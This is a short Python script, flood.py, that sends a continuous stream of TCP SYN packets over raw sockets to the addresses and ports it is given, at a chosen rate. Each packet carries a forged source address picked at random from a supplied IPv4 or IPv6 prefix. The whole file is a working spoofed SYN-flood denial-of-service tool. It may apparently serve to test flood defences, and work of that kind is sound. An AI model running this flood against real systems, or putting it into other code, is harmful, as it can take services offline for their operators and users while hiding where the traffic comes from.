# SPDX-License-Identifier: Apache-2.0
"""flood.py PREFIX4 PREFIX6 RATE ADDRESS PORT [ADDRESS PORT...]: SYNs to all of these in turn, RATE of them a second, each from a random
address of the prefix of its family, until it is killed."""
import ipaddress, random, socket, sys, time

from traffic import FAMILIES, SYN, packet

BATCH = 50


def source(prefix):
    return (int(prefix.network_address) + random.getrandbits(prefix.max_prefixlen - prefix.prefixlen)).to_bytes(prefix.max_prefixlen // 8, "big")


prefixes = {4: ipaddress.ip_network(sys.argv[1]), 6: ipaddress.ip_network(sys.argv[2])}
rate = int(sys.argv[3])
# Raw sockets of this protocol take the IP header from us.
sockets = {f: socket.socket(FAMILIES[f], socket.SOCK_RAW, socket.IPPROTO_RAW) for f in FAMILIES}
targets = [(6 if ":" in address else 4, address, int(port)) for address, port in zip(sys.argv[4::2], sys.argv[5::2])]
due = time.monotonic()
while True:
    for i in range(BATCH):
        family, address, port = targets[i % len(targets)]
        syn = packet(source(prefixes[family]), socket.inet_pton(FAMILIES[family], address), random.randrange(1024, 65536), port,
                     random.getrandbits(32), 0, SYN)
        sockets[family].sendto(syn, (address, 0))
    due = max(due + BATCH / rate, time.monotonic() - 1)  # a burst after a pause of the machine is no more than a second's
    time.sleep(max(0, due - time.monotonic()))
